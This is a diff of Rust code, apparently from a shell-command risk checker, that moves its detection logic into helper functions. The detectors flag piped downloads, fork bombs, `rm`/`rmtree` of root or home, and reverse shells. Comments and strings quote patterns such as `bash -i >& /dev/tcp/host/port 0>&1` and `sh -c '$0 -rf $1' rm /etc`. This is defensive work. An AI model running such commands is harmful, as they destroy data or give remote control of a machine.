@@ -9,20 +9,7 @@ use crate::risk::prelude::*;
 pub(crate) fn check(name: &str, ctx: &Ctx, acc: &mut Acc) -> bool {
     match name {
         "eval" => analyze_eval(ctx, acc),
-        "source" | "." => {
-            if let Some(w) = ctx.positionals().first() {
-                run_written(&w.text, ctx.depth, acc);
-            }
-            script_from_stream(ctx, acc);
-            if ctx
-                .eff
-                .args
-                .iter()
-                .any(|w| w.procsub && w.subs.iter().any(|s| script_downloads(s)))
-            {
-                acc.danger("sources a script downloaded from the network");
-            }
-        }
+        "source" | "." => source(ctx, acc),
         "su" => {
             if let Some(i) = ctx
                 .args
@@ -34,94 +21,125 @@ pub(crate) fn check(name: &str, ctx: &Ctx, acc: &mut Acc) -> bool {
                 }
             }
         }
-        "perl" | "ruby" => {
-            // `perl -pi -e …` / `-i.bak`: edits the named files in place.
-            let in_place = ctx.args.iter().any(|a| {
-                a.starts_with('-')
-                    && !a.starts_with("--")
-                    && a[1..].starts_with(|c: char| c.is_ascii_alphabetic())
-                    && a.contains('i')
-                    && a[1..]
-                        .chars()
-                        .take_while(|c| *c != '.')
-                        .all(|c| c.is_ascii_lowercase())
-            });
-            if in_place {
-                acc.caution(format!("{name} -i edits files in place"));
-            }
-        }
+        "perl" | "ruby" => perl_in_place(name, ctx, acc),
         "python" | "python3" | "node" => {}
         // `tmux new -d 'CMD'`, `screen -dm CMD…`, `xterm -e CMD…`: they run CMD.
-        "tmux" => {
-            let runs = ctx.positionals().first().is_some_and(|w| {
-                matches!(
-                    w.text.as_str(),
-                    "new"
-                        | "new-session"
-                        | "new-window"
-                        | "neww"
-                        | "split-window"
-                        | "splitw"
-                        | "respawn-pane"
-                )
-            });
-            if let Some(cmd) = ctx
-                .positionals()
-                .last()
-                .filter(|_| runs && ctx.positionals().len() > 1)
-            {
-                assess_script(&cmd.text, ctx.depth + 1, acc);
-            }
-        }
-        "screen" => {
-            let args = ctx.eff.args;
-            let mut j = 0;
-            while let Some(w) = args.get(j) {
-                if !w.text.starts_with('-') {
-                    break;
-                }
-                if w.text.ends_with('S')
-                    || matches!(w.text.as_str(), "-c" | "-L" | "-Logfile" | "-t" | "-p")
-                {
-                    j += 1;
-                }
-                j += 1;
-            }
-            if j < args.len() {
-                assess_script(&quote_words(&args[j..]), ctx.depth + 1, acc);
-            }
-        }
+        "tmux" => tmux(ctx, acc),
+        "screen" => screen(ctx, acc),
         "xterm"
         | "gnome-terminal"
         | "konsole"
         | "alacritty"
         | "kitty"
         | "urxvt"
-        | "x-terminal-emulator" => {
-            let args = ctx.eff.args;
-            if let Some(p) = args
-                .iter()
-                .position(|w| matches!(w.text.as_str(), "-e" | "--" | "-x" | "--command"))
-            {
-                assess_script(&quote_words(&args[p + 1..]), ctx.depth + 1, acc);
-            }
-        }
-        "chroot" => {
-            // chroot [OPTION…] DIR CMD ARG…: the command keeps all its
-            // words, options included, and runs on the system under DIR.
-            let args = ctx.eff.args;
-            let dir = args
-                .iter()
-                .position(|w| !w.text.starts_with('-') || w.quoted);
-            if let Some(i) = dir {
-                if i + 1 < args.len() {
-                    assess_script(&quote_words(&args[i + 1..]), ctx.depth + 1, acc);
-                }
-            }
-        }
+        | "x-terminal-emulator" => terminal(ctx, acc),
+        "chroot" => chroot(ctx, acc),
         _ => return false,
     }
     true
+}
+
+/// `source FILE`, `. FILE`: the file's text runs in this shell.
+fn source(ctx: &Ctx, acc: &mut Acc) {
+    if let Some(w) = ctx.positionals().first() {
+        run_written(&w.text, ctx.depth, acc);
+    }
+    script_from_stream(ctx, acc);
+    if ctx
+        .eff
+        .args
+        .iter()
+        .any(|w| w.procsub && w.subs.iter().any(|s| script_downloads(s)))
+    {
+        acc.danger("sources a script downloaded from the network");
+    }
+}
+
+/// `perl -pi -e …` / `-i.bak`: edits the named files in place.
+fn perl_in_place(name: &str, ctx: &Ctx, acc: &mut Acc) {
+    // `perl -pi -e …` / `-i.bak`: edits the named files in place.
+    let in_place = ctx.args.iter().any(|a| {
+        a.starts_with('-')
+            && !a.starts_with("--")
+            && a[1..].starts_with(|c: char| c.is_ascii_alphabetic())
+            && a.contains('i')
+            && a[1..]
+                .chars()
+                .take_while(|c| *c != '.')
+                .all(|c| c.is_ascii_lowercase())
+    });
+    if in_place {
+        acc.caution(format!("{name} -i edits files in place"));
+    }
+}
+
+/// `tmux new -d 'CMD'`: the session runs CMD.
+fn tmux(ctx: &Ctx, acc: &mut Acc) {
+    let runs = ctx.positionals().first().is_some_and(|w| {
+        matches!(
+            w.text.as_str(),
+            "new"
+                | "new-session"
+                | "new-window"
+                | "neww"
+                | "split-window"
+                | "splitw"
+                | "respawn-pane"
+        )
+    });
+    if let Some(cmd) = ctx
+        .positionals()
+        .last()
+        .filter(|_| runs && ctx.positionals().len() > 1)
+    {
+        assess_script(&cmd.text, ctx.depth + 1, acc);
+    }
+}
+
+/// `screen -dm CMD…`: the words after the options run.
+fn screen(ctx: &Ctx, acc: &mut Acc) {
+    let args = ctx.eff.args;
+    let mut j = 0;
+    while let Some(w) = args.get(j) {
+        if !w.text.starts_with('-') {
+            break;
+        }
+        if w.text.ends_with('S')
+            || matches!(w.text.as_str(), "-c" | "-L" | "-Logfile" | "-t" | "-p")
+        {
+            j += 1;
+        }
+        j += 1;
+    }
+    if j < args.len() {
+        assess_script(&quote_words(&args[j..]), ctx.depth + 1, acc);
+    }
+}
+
+/// `xterm -e CMD…` and other terminals: the words after `-e` run.
+fn terminal(ctx: &Ctx, acc: &mut Acc) {
+    let args = ctx.eff.args;
+    if let Some(p) = args
+        .iter()
+        .position(|w| matches!(w.text.as_str(), "-e" | "--" | "-x" | "--command"))
+    {
+        assess_script(&quote_words(&args[p + 1..]), ctx.depth + 1, acc);
+    }
+}
+
+/// `chroot DIR CMD…`: CMD runs on the system under DIR.
+fn chroot(ctx: &Ctx, acc: &mut Acc) {
+    // chroot [OPTION…] DIR CMD ARG…: the command keeps all its
+    // words, options included, and runs on the system under DIR.
+    let args = ctx.eff.args;
+    let dir = args
+        .iter()
+        .position(|w| !w.text.starts_with('-') || w.quoted);
+    if let Some(i) = dir {
+        if i + 1 < args.len() {
+            assess_script(&quote_words(&args[i + 1..]), ctx.depth + 1, acc);
+        }
+    }
 }
 
 pub(crate) fn analyze_interpreter(ctx: &Ctx, acc: &mut Acc) {
@@ -129,13 +147,7 @@ pub(crate) fn analyze_interpreter(ctx: &Ctx, acc: &mut Acc) {
     let args = ctx.args;
     let words = ctx.eff.args;
     // Downloaded script piped into the interpreter.
-    let upstream_downloads = ctx.upstream.iter().any(|c| {
-        unwrap_cmd(&c.words)
-            .is_some_and(|e| DOWNLOADERS.contains(&e.name.to_ascii_lowercase().as_str()))
-            || c.words
-                .iter()
-                .any(|w| w.subs.iter().any(|s| script_downloads(s)))
-    });
+    let upstream_downloads = upstream_downloads(ctx);
     // `sh -s -- args` reads the script from stdin; words after `--` are its arguments.
     let reads_stdin = is_shell(name) && has_flag(args, 's', &[]);
     let before_ddash: Vec<Word> = words
@@ -147,31 +159,10 @@ pub(crate) fn analyze_interpreter(ctx: &Ctx, acc: &mut Acc) {
         && positionals(&before_ddash)
             .first()
             .is_some_and(|w| w.text != "-" && !w.procsub);
-    let c_index = args.iter().position(|a| {
-        a.starts_with('-')
-            && !a.starts_with("--")
-            && (a[1..].contains('c') && is_shell(name)
-                || matches!(*a, "-c" | "-e" | "-E")
-                || *a == "-r" && name == "php"
-                || a.ends_with('e')
-                    && name == "perl"
-                    && a[1..].chars().all(|c| c.is_ascii_lowercase())
-                || *a == "-Command")
-            || matches!(
-                *a,
-                "--eval" | "-eval" | "--execute" | "--command" | "-Command"
-            )
-            || *a == "-p" && matches!(name, "node" | "nodejs" | "bun")
-    });
+    let c_index = code_flag_index(name, args);
     // `deno eval CODE`, `bun eval CODE`: the subcommand takes the code.
-    if matches!(name, "deno" | "bun") {
-        let pos = positionals(words);
-        if pos.first().is_some_and(|w| w.text == "eval") {
-            if let Some(code) = pos.get(1) {
-                code_run(name, &code.text, ctx.depth, acc);
-            }
-            return;
-        }
+    if deno_eval(ctx, acc) {
+        return;
     }
     if has_script_file {
         if let Some(w) = positionals(&before_ddash).first() {
@@ -195,6 +186,65 @@ pub(crate) fn analyze_interpreter(ctx: &Ctx, acc: &mut Acc) {
     {
         acc.danger(format!("pipes a downloaded script into {name}"));
     }
+    substituted_sources(ctx, acc);
+    if let Some(ci) = c_index {
+        inline_code(ctx, ci, acc);
+    }
+    reverse_shell(ctx, acc);
+}
+
+/// Whether a downloader feeds this command's input.
+fn upstream_downloads(ctx: &Ctx) -> bool {
+    ctx.upstream.iter().any(|c| {
+        unwrap_cmd(&c.words)
+            .is_some_and(|e| DOWNLOADERS.contains(&e.name.to_ascii_lowercase().as_str()))
+            || c.words
+                .iter()
+                .any(|w| w.subs.iter().any(|s| script_downloads(s)))
+    })
+}
+
+/// The index of the flag whose next word is code (`-c`, `-e`, `--eval`, …).
+fn code_flag_index(name: &str, args: &[&str]) -> Option<usize> {
+    args.iter().position(|a| {
+        a.starts_with('-')
+            && !a.starts_with("--")
+            && (a[1..].contains('c') && is_shell(name)
+                || matches!(*a, "-c" | "-e" | "-E")
+                || *a == "-r" && name == "php"
+                || a.ends_with('e')
+                    && name == "perl"
+                    && a[1..].chars().all(|c| c.is_ascii_lowercase())
+                || *a == "-Command")
+            || matches!(
+                *a,
+                "--eval" | "-eval" | "--execute" | "--command" | "-Command"
+            )
+            || *a == "-p" && matches!(name, "node" | "nodejs" | "bun")
+    })
+}
+
+/// `deno eval CODE`, `bun eval CODE`: the subcommand takes the code; `true`
+/// when that was the command.
+fn deno_eval(ctx: &Ctx, acc: &mut Acc) -> bool {
+    let name = ctx.eff.name.as_str();
+    if matches!(name, "deno" | "bun") {
+        let pos = positionals(ctx.eff.args);
+        if pos.first().is_some_and(|w| w.text == "eval") {
+            if let Some(code) = pos.get(1) {
+                code_run(name, &code.text, ctx.depth, acc);
+            }
+            return true;
+        }
+    }
+    false
+}
+
+/// Downloaded or decoded text given as a file (`sh <(curl …)`, `< <(…)`,
+/// `<<< "$(curl …)"`).
+fn substituted_sources(ctx: &Ctx, acc: &mut Acc) {
+    let name = ctx.eff.name.as_str();
+    let words = ctx.eff.args;
     if words
         .iter()
         .any(|w| w.procsub && w.subs.iter().any(|s| script_downloads(s)))
@@ -225,45 +275,55 @@ pub(crate) fn analyze_interpreter(ctx: &Ctx, acc: &mut Acc) {
             acc.danger(format!("feeds a downloaded script into {name}"));
         }
     }
-    if let Some(ci) = c_index {
-        if let Some(script) = words.get(ci + 1) {
-            if script.subs.iter().any(|s| script_downloads(s)) {
-                acc.danger(format!(
-                    "runs a downloaded script with {name} -c \"$(curl …)\""
-                ));
+}
+
+/// The code after `-c`/`-e`: a nested script for a shell, code otherwise.
+fn inline_code(ctx: &Ctx, ci: usize, acc: &mut Acc) {
+    let name = ctx.eff.name.as_str();
+    let args = ctx.args;
+    let words = ctx.eff.args;
+    if let Some(script) = words.get(ci + 1) {
+        if script.subs.iter().any(|s| script_downloads(s)) {
+            acc.danger(format!(
+                "runs a downloaded script with {name} -c \"$(curl …)\""
+            ));
+        }
+        if is_shell(name) {
+            let params: Vec<&str> = args.iter().skip(ci + 3).copied().collect();
+            let mut text = positional_params(&script.text, &params);
+            // `sh -c '$0 -rf $1' rm /etc`: the word after the script is `$0`.
+            if let Some(zero) = args.get(ci + 2).filter(|_| text.contains("$0")) {
+                text = text.replace("${0}", zero).replace("$0", zero);
             }
-            if is_shell(name) {
-                let params: Vec<&str> = args.iter().skip(ci + 3).copied().collect();
-                let mut text = positional_params(&script.text, &params);
-                // `sh -c '$0 -rf $1' rm /etc`: the word after the script is `$0`.
-                if let Some(zero) = args.get(ci + 2).filter(|_| text.contains("$0")) {
-                    text = text.replace("${0}", zero).replace("$0", zero);
-                }
-                assess_script(&text, ctx.depth + 1, acc);
-            } else {
-                let code = script.text.replace(' ', "");
-                if code.contains("forkwhilefork")
-                    || code.contains("os.fork()") && code.contains("while")
-                    || code.contains("fork()while")
-                {
-                    acc.danger(format!("{name} fork bomb"));
-                }
-                if code.contains("shutil.rmtree('/')")
-                    || code.contains("shutil.rmtree(\"/\")")
-                    || code.contains("rmtree(os.path.expanduser('~'))")
-                {
-                    acc.danger(format!("{name} deletes the whole filesystem or home"));
-                }
-                code_run(name, &script.text, ctx.depth, acc);
-                runs_its_arguments(
-                    &script.text,
-                    &args[(ci + 2).min(args.len())..],
-                    ctx.depth,
-                    acc,
-                );
+            assess_script(&text, ctx.depth + 1, acc);
+        } else {
+            let code = script.text.replace(' ', "");
+            if code.contains("forkwhilefork")
+                || code.contains("os.fork()") && code.contains("while")
+                || code.contains("fork()while")
+            {
+                acc.danger(format!("{name} fork bomb"));
             }
+            if code.contains("shutil.rmtree('/')")
+                || code.contains("shutil.rmtree(\"/\")")
+                || code.contains("rmtree(os.path.expanduser('~'))")
+            {
+                acc.danger(format!("{name} deletes the whole filesystem or home"));
+            }
+            code_run(name, &script.text, ctx.depth, acc);
+            runs_its_arguments(
+                &script.text,
+                &args[(ci + 2).min(args.len())..],
+                ctx.depth,
+                acc,
+            );
         }
     }
+}
+
+/// Reverse shells: `bash -i >& /dev/tcp/host/port 0>&1`.
+fn reverse_shell(ctx: &Ctx, acc: &mut Acc) {
+    let name = ctx.eff.name.as_str();
     // Reverse shells: bash -i >& /dev/tcp/host/port 0>&1
     if is_shell(name)
         && ctx.cmd.redirs.iter().any(|r| {
